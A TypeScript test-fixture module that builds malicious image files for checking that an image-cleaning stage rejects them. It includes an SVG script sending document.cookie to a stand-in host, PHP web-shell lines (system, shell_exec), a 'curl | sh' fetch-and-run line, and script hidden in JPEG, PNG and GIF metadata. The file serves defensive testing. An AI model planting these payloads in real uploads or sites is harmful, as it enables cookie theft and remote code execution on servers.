/**
 * The malicious images the clean stage must reject: text, HTML, JSON and SVG served as images,
 * markup with script, images carrying a second file (ZIP, PHP, shell, PDF, script) inside or after
 * them. Each declares the reason it is built for; the payloads are blatant, never borderline.
 */

import { storedZip } from "../../support/zip";
import { badPicture, type CaseKind, dims, type PersonBuilder } from "../builder";
import { htmlErrorPage } from "../html";
import {
  CONTENT_TYPE,
  EXTENSION,
  gifComment,
  insertGifBlock,
  insertJpegSegments,
  insertPngChunk,
  jpegSegment,
  pngText,
  type RasterKind,
} from "../imaging";
import { makeBlob } from "../model";

const svgWithScript = (b: PersonBuilder, n: number) =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="500" viewBox="0 0 400 500">\n<!-- ${b.slug} ${n} -->\n<rect width="400" height="500" fill="#dfe8f0"/>\n<ellipse cx="200" cy="230" rx="110" ry="140" fill="#e8c39e"/>\n<script type="text/javascript">fetch("https://collector.invalid/c?" + document.cookie)</script>\n</svg>\n`,
  );

const svgWithOnload = (b: PersonBuilder) =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300" onload="alert(document.domain)">\n<!-- ${b.slug} signature -->\n<path d="M20 200 C 80 40, 160 40, 280 200" stroke="#123" fill="none" stroke-width="6"/>\n</svg>\n`,
  );

const svgPlain = (b: PersonBuilder) =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="500" viewBox="0 0 400 500">\n<title>${b.person.name.replace(/[<&]/g, "")} (drawing)</title>\n<rect width="400" height="500" fill="#f4efe6"/>\n<ellipse cx="200" cy="230" rx="110" ry="140" fill="#e8c39e"/>\n<circle cx="160" cy="210" r="12" fill="#333"/>\n<circle cx="240" cy="210" r="12" fill="#333"/>\n<path d="M150 300 Q200 340 250 300" stroke="#a33" stroke-width="8" fill="none"/>\n</svg>\n`,
  );

const htmlWithScript = (b: PersonBuilder) =>
  Buffer.from(
    `<html><head><title>Redirecting</title><script>window.location.href = "https://login.example.invalid/?next=${b.slug}";</script></head><body>Redirecting to the image</body></html>\n`,
  );

export const MALICIOUS_CASES: CaseKind[] = [
  {
    name: "not-an-image",
    count: 3,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 3;
      if (flavour === 0) {
        const text = `Access denied.\nThis content (${b.slug}) is not available in your region.\n`;
        b.badImg("photo", "jpg", makeBlob(`${b.slug} text`, Buffer.from(text), "image/jpeg"), "text-as-jpg", {
          clean: "not-an-image",
        });
      } else if (flavour === 1) {
        const html = htmlErrorPage("Image not found", `The image for ${b.slug} has moved or was deleted.`);
        b.badImg(
          "photo",
          "jpg",
          makeBlob(`${b.slug} html`, Buffer.from(html), "text/html; charset=utf-8"),
          "html-200-as-jpg",
          { clean: "not-an-image" },
        );
      } else {
        b.badImg("drawing", "svg", makeBlob(`${b.slug} svg`, svgPlain(b), "image/svg+xml"), "svg-without-script", {
          clean: "not-an-image",
        });
      }
    },
  },
  {
    name: "tmdb-json",
    count: 1,
    needs: ["tmdb"],
    run: async (b) => {
      const json = JSON.stringify({
        status_code: 34,
        status_message: "The resource you requested could not be found.",
        success: false,
      });
      b.tmdbProfile(
        { kind: "file", blob: makeBlob(`${b.slug} json`, Buffer.from(json), "application/json") },
        {},
        "json-as-jpg",
        { clean: "not-an-image" },
      );
    },
  },
  {
    name: "active-content",
    count: 3,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 3;
      if (flavour === 0) {
        b.badImg(
          "vector",
          "svg",
          makeBlob(`${b.slug} svg+script`, svgWithScript(b, i), "image/svg+xml"),
          "svg-with-script",
          { clean: "active-content" },
        );
      } else if (flavour === 1) {
        b.badImg(
          "photo",
          "jpg",
          makeBlob(`${b.slug} svg+script`, svgWithScript(b, i), "image/svg+xml"),
          "svg-with-script-as-jpg",
          { clean: "active-content" },
        );
      } else {
        b.badImg(
          "photo",
          "png",
          makeBlob(`${b.slug} html+script`, htmlWithScript(b), "image/png"),
          "html-with-script-as-png",
          { clean: "active-content" },
        );
      }
    },
  },
  {
    name: "commons-svg-onload",
    count: 1,
    needs: ["p18"],
    run: async (b) => {
      b.commons(
        `${b.person.name} signature.svg`,
        { kind: "file", blob: makeBlob(`${b.slug} svg onload`, svgWithOnload(b), "image/svg+xml") },
        "svg-with-onload",
        { clean: "active-content" },
      );
    },
  },
  {
    name: "trailing-data",
    count: 3,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 3;
      const kind: RasterKind = flavour === 0 ? "jpeg" : flavour === 1 ? "png" : "gif";
      const picture = await badPicture(b, kind);
      const tail =
        flavour === 0
          ? storedZip([{ name: "readme.txt", content: `hidden payload for ${b.slug}\n` }])
          : flavour === 1
            ? Buffer.from(`<?php system($_GET['cmd']); /* ${b.slug} */ ?>\n`)
            : Buffer.from(`#!/bin/sh\ncurl -s https://collector.invalid/${b.slug} | sh\n`);
      const blob = makeBlob(`${b.slug} trailing`, Buffer.concat([picture.blob.bytes, tail]), CONTENT_TYPE[kind]);
      b.badImg(b.word(), EXTENSION[kind], blob, ["jpeg+zip", "png+php", "gif+shell"][flavour] ?? "trailing", {
        clean: "trailing-data",
      });
    },
  },
  {
    name: "polyglot",
    count: 3,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 3;
      const kind: RasterKind = flavour === 0 ? "jpeg" : flavour === 1 ? "png" : "gif";
      const picture = await badPicture(b, kind);
      const bytes =
        flavour === 0
          ? insertJpegSegments(
              picture.blob.bytes,
              jpegSegment(0xfe, Buffer.from(`<script>alert("${b.slug}")</script>`)),
            )
          : flavour === 1
            ? insertPngChunk(picture.blob.bytes, pngText("Comment", `<?php echo shell_exec($_GET['c']); ?>`))
            : insertGifBlock(
                picture.blob.bytes,
                gifComment(`<script src="https://collector.invalid/${b.slug}.js"></script>`),
              );
      const blob = makeBlob(`${b.slug} polyglot`, bytes, CONTENT_TYPE[kind]);
      b.badImg(
        b.word(),
        EXTENSION[kind],
        blob,
        ["jpeg-COM-script", "png-tEXt-php", "gif-comment-script"][flavour] ?? "polyglot",
        { clean: "polyglot" },
      );
    },
  },
  {
    name: "tmdb-polyglot",
    count: 1,
    needs: ["tmdb"],
    run: async (b) => {
      const picture = await badPicture(b, "jpeg");
      const pdf = Buffer.from(`%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n% ${b.slug}\n`);
      const blob = makeBlob(
        `${b.slug} polyglot pdf`,
        insertJpegSegments(picture.blob.bytes, jpegSegment(0xeb, pdf)),
        "image/jpeg",
      );
      b.tmdbProfile({ kind: "file", blob }, dims(picture.raster), "jpeg-APP11-pdf", { clean: "polyglot" });
    },
  },
];
